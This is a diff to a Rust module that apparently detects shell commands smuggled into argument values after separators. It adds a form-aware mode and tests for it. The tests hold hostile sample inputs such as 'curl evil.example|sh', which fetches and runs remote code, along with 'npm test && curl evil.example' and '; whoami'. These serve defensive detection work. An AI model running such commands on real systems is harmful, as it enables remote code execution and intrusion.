@@ -2,7 +2,7 @@
 //!
 //! A command line, or a document with commands in it, is ordinary. A single value that goes on with a command is not.
 
-use super::{Found, is_line, is_word, position};
+use super::{Form, Found, is_word, position};
 use crate::shield::rule::Detector;
 
 /// Commands that attacks run, sorted.
@@ -182,14 +182,16 @@ const MAX_QUOTED_BYTES: usize = 64;
 const MAX_SKIPPED_BYTES: usize = 16;
 
 /// Reports commands after a separator. `decoded`: the text is the decoded form of another one.
-pub fn find(text: &str, decoded: bool, found: Found<'_>) {
+pub fn find(text: &str, decoded: bool, form: Form, found: Found<'_>) {
     let bytes = text.as_bytes();
-    if text.starts_with("data:") {
-        return;
-    }
     // Nobody sends an encoded newline before a command line.
     let continues = decoded && text.starts_with(['\n', '\r']);
-    let line = is_line(text) && (continues || !begins_command(text));
+    let line = match form {
+        Form::Argument => true,
+        Form::Line => continues || !begins_command(text),
+        Form::Document => false,
+    };
+    let is_url = text.starts_with("data:");
     let mut at = 0;
     while let Some(next) = bytes.get(at..).and_then(|rest| {
         rest.iter()
@@ -198,6 +200,9 @@ pub fn find(text: &str, decoded: bool, found: Found<'_>) {
         let begin = at + next;
         at = begin + 1;
         let separator = bytes.get(begin).copied().unwrap_or_default();
+        if is_url && bytes.get(at..).is_some_and(|rest| rest.starts_with(b"base64,")) {
+            continue;
+        }
         let opens = bytes.get(at) == Some(&b'(');
         match separator {
             b'$' | b'<' | b'>' if !opens => continue,
@@ -205,15 +210,15 @@ pub fn find(text: &str, decoded: bool, found: Found<'_>) {
             b'\n' if begin + 1 == bytes.len() => continue,
             _ => {}
         }
-        let Some(end) = command(bytes, at, separator) else { continue };
+        let Some((end, is_plain)) = command(bytes, at, separator) else { continue };
         // Markdown writes code between backticks, and scripts have many lines.
         let before = if line { text.get(..begin).unwrap_or_default() } else { "" };
         let words = before.split_whitespace().take(4).count();
         let glued = !before.ends_with(char::is_whitespace);
-        // Markdown writes code between backticks.
         let is_attack = line
             && match separator {
                 b'`' => glued && words <= 1 && text.len() <= MAX_QUOTED_BYTES,
+                _ if form == Form::Argument && is_plain => true,
                 b'$' | b'<' | b'>' => glued && words <= 1,
                 b'|' | b'\n' => words <= 1,
                 _ => words <= 3,
@@ -223,6 +228,12 @@ pub fn find(text: &str, decoded: bool, found: Found<'_>) {
             begin..end,
         );
     }
+}
+
+/// Whether something in a text can separate commands.
+#[must_use]
+pub fn may_go_on(text: &str) -> bool {
+    text.contains([';', '|', '&', '`', '$', '\n', '<', '>'])
 }
 
 /// Whether a text is a command line by itself.
@@ -288,8 +299,9 @@ fn is_command(word: &[u8]) -> bool {
     lower && position(COMMANDS, |known| known, name).is_some()
 }
 
-/// The end of the command at an offset. What follows must be what follows commands, since many of them are words.
-fn command(bytes: &[u8], at: usize, separator: u8) -> Option<usize> {
+/// The end of the command at an offset. What follows must be what follows commands, since many of them are words. Also
+/// returns whether it cannot be prose, whatever came before.
+fn command(bytes: &[u8], at: usize, separator: u8) -> Option<(usize, bool)> {
     let rest = bytes.get(at..)?;
     let skipped = rest
         .iter()
@@ -329,6 +341,7 @@ fn command(bytes: &[u8], at: usize, separator: u8) -> Option<usize> {
     let after = bytes.get(end..).unwrap_or_default();
     let spaces = after.iter().take_while(|byte| **byte == b' ' || **byte == b'\t').count();
     let next = after.get(spaces);
+    let mut is_plain = true;
     let follows = match next {
         None
         | Some(
@@ -338,10 +351,13 @@ fn command(bytes: &[u8], at: usize, separator: u8) -> Option<usize> {
         Some(b'-' | b'/' | b'~' | b'0'..=b'9' | b'%' | b'*' | b'\\') if spaces > 0 => true,
         Some(b'\'' | b'"') => separator != b'`',
         Some(b'.') => spaces > 0 || length == 0,
-        Some(_) => (takes_words(word) || at <= 2) && spaces > 0,
+        Some(_) => {
+            is_plain = false;
+            (takes_words(word) || at <= 2) && spaces > 0
+        }
     };
     let closes = separator != b'`' || after.contains(&b'`') || spaces == after.len();
-    ((follows || quoted) && closes).then_some(end)
+    ((follows || quoted) && closes).then_some((end, is_plain || quoted))
 }
 
 /// Commands after which words follow, and that are no words of prose.
@@ -402,8 +418,12 @@ mod tests {
     use super::*;
 
     fn finds(text: &str) -> Option<Detector> {
+        find_in(text, Form::of(text))
+    }
+
+    fn find_in(text: &str, form: Form) -> Option<Detector> {
         let mut worst = None;
-        find(text, false, &mut |detector, _| {
+        find(text, false, form, &mut |detector, _| {
             if worst != Some(Detector::ShellCommand) {
                 worst = Some(detector);
             }
@@ -454,6 +474,19 @@ mod tests {
             "To install, run `curl https://x.example/i.sh | sh`.",
         ] {
             assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
+        }
+    }
+
+    #[test]
+    fn an_argument_that_is_no_text_is_no_command_line() {
+        for text in [
+            "a long text of many words; curl evil.example|sh",
+            "git x; curl evil.example|sh",
+            "npm test && curl evil.example",
+            "a\nb\nc; whoami",
+        ] {
+            assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
+            assert_eq!(find_in(text, Form::Argument), Some(Detector::ShellCommand), "{text}");
         }
     }
 }
